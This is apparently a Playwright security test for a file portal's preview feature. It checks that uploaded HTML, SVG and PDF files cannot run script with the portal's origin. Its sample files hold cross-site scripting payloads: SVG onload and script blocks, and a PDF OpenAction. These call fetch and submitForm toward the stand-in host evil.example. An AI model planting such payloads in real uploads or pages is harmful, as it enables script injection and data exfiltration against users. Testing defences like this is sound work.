import type { Frame, Page } from 'playwright/test'
import { fullChromium } from './support/browsers'
import { expect, test } from './support/test'
import { button, choose, fileRow, tray, withoutPickers } from './support/uploads'

// Only a browser with a built-in viewer shows a PDF in place.
test.use({ launchOptions: fullChromium, viewport: { width: 1440, height: 900 } })

/** Actions that each file attempts: mark the portal's window and storage, and send a request. */
const attack = `for (const one of [self, parent, top]) try { one.stolen = origin } catch {}
  try { localStorage.setItem('stolen', origin) } catch {}
  fetch('https://evil.example/' + origin)`
const html = `<!doctype html><title>stolen</title><h1>Report</h1><script>${attack}</script>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${attack.replaceAll('"', "'")}">
  <script><![CDATA[${attack}]]></script><circle cx="4" cy="4" r="4"/></svg>`
const pdf = `%PDF-1.7
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (this.submitForm\\('https://evil.example/'\\);)>>>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 300 300]>> endobj
trailer <</Root 1 0 R>>
%%EOF`

const files = [
  { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from(html) },
  { name: 'drawing.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) },
  { name: 'paper.pdf', mimeType: 'application/pdf', buffer: Buffer.from(pdf) },
  // Its content type is wrong on purpose.
  { name: 'page.pdf', mimeType: 'application/pdf', buffer: Buffer.from(html) },
]

/** Kind of a document, its access to the portal, and what of the file became a part of it. */
const look = (frame: Page | Frame) =>
  frame.evaluate(() => {
    const attempt = (read: () => unknown) => {
      try {
        return String(read())
      } catch (error) {
        return error instanceof Error ? error.name : 'refused'
      }
    }
    return {
      origin: self.origin,
      type: document.contentType,
      storage: attempt(() => localStorage.length),
      cookies: attempt(() => document.cookie),
      scripts: document.scripts.length,
      text: document.documentElement.textContent.trim(),
    }
  })
const nowhere = { origin: 'null', storage: 'SecurityError', cookies: 'SecurityError' }

test('[R20] what a customer opens runs nowhere as the portal: HTML is shown as its source, SVG as a picture, a PDF by the viewer; in a tab they are saved or have no origin', {
  tag: '@all',
}, async ({ as, context, expectConsole, page }) => {
  // Actions that the SVG attempts in its tab.
  expectConsole(/^Blocked script execution in '.*\/drawing\.svg/)
  await withoutPickers(context)
  const asked: string[] = []
  context.on('request', (request) => asked.push(request.url()))
  await as('engineer', '/files?path=/Cases/Empty+run')
  await choose(page, button(page, 'Upload files'), files)
  await expect(tray(page)).toContainText('4 files uploaded')

  /** @returns the preview of a file, and the address it is read from */
  const open = async (name: string) => {
    // Rows of images read theirs, too, for a thumbnail.
    const isOf = ({ searchParams: sent }: URL) =>
      sent.get('disposition') === 'inline' && sent.get('path') === `/Cases/Empty run/${name}`
    const answer = page.waitForResponse((response) => isOf(new URL(response.url())))
    await fileRow(page, name).click()
    await page.keyboard.press('Enter')
    const { url }: { url: string } = await (await answer).json()
    return { preview: page.getByRole('dialog', { name, exact: true }), url }
  }
  const close = () => page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()

  const source = await open('page.html')
  await expect(source.preview.getByRole('region', { name: 'page.html' })).toHaveText(html)
  expect(page.frames()).toHaveLength(1)
  await close()
  const picture = await open('drawing.svg')
  const image = picture.preview.getByRole('img', { name: 'drawing.svg' })
  await expect.poll(() => image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBeGreaterThan(0)
  expect(page.frames()).toHaveLength(1)
  await close()

  for (const name of ['paper.pdf', 'page.pdf']) {
    await test.step(name, async () => {
      const { preview } = await open(name)
      await expect(preview.getByTitle(name)).toHaveAttribute('src', /^blob:/)
      // The viewer is an extension of the browser with an origin of its own; its frame holds nothing else.
      const viewer = () => page.frames().find((frame) => frame.url().startsWith('chrome-extension://'))
      await expect.poll(viewer).toBeDefined()
      const around = viewer()?.parentFrame()
      expect(around && (await look(around))).toMatchObject({ type: 'application/pdf', scripts: 0, text: '' })
      expect(around?.parentFrame()).toBe(page.mainFrame())
      await close()
      await expect.poll(() => page.frames().length).toBe(1)
    })
  }

  const tab = await context.newPage()
  await tab.goto(picture.url)
  expect(await look(tab)).toMatchObject({ ...nowhere, type: 'image/svg+xml' })
  const saved = tab.waitForEvent('download')
  await expect(tab.goto(source.url)).rejects.toThrow('Download is starting')
  expect((await saved).suggestedFilename()).toBe('page.html')

  expect(await page.evaluate(() => ['stolen' in window, localStorage.getItem('stolen')])).toEqual([
    false,
    null,
  ])
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
})
